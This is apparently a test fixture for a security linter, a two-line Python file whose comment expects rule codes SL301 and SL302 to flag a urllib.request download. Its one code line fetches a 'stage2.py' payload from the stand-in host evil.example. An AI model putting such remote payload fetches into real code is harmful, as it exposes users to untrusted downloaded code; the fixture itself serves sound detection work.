# expect: SL301 SL302 — urllib.request download
import urllib.request

urllib.request.urlopen("http://evil.example/stage2.py").read()
